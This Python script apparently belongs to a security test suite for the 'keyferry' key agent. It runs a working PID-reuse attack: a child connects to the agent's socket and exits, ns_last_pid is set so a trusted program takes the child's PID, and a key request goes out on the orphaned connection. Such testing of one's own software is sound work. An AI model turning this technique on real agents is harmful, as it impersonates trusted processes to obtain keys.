"""An attack, to be run as root in a pid namespace of its own: connect, end, and let a trusted program have the number.

Arguments: the agent's configuration, its socket, and a program that it trusts. Prints the answer to a request.
"""

import os
import signal
import socket
import subprocess
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[1]))

from keyferry.protocol import wire
from support.agent import PATIENCE, RunningAgent


def connect_and_end(path: str) -> tuple[int, socket.socket]:
    """Return the connection of an exited process, and that process's number."""
    here, there = socket.socketpair(socket.AF_UNIX)
    child = os.fork()
    if child == 0:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(path)
        socket.send_fds(there, [b"x"], [connection.fileno()])
        os._exit(0)
    _, (descriptor,), _, _ = socket.recv_fds(here, 1, 1)
    os.waitpid(child, 0)
    return child, socket.socket(fileno=descriptor)


def start_with_number(number: int, program: str) -> "subprocess.Popen[bytes]":
    """Start a program with this number, which no other process of this namespace takes."""
    Path("/proc/sys/kernel/ns_last_pid").write_text(str(number - 1))
    process = subprocess.Popen([program, "60"])
    assert process.pid == number
    assert os.readlink(f"/proc/{number}/exe") == program
    return process


def main(config: str, path: str, trusted: str) -> None:
    """Attack."""
    with RunningAgent(["--config", config], Path(path)) as agent:
        agent.signal(signal.SIGSTOP)
        number, connection = connect_and_end(path)
        process = start_with_number(number, trusted)
        agent.signal(signal.SIGCONT)
        try:
            connection.settimeout(PATIENCE)
            connection.sendall(wire.encode_request(1, "DescribeKey", {"KeyId": "alias/a"}))
            answer = connection.recv(65_536)
        except (BrokenPipeError, ConnectionResetError):
            answer = b""
        finally:
            process.kill()
    print(answer or "closed without an answer")


if __name__ == "__main__":
    main(*sys.argv[1:])
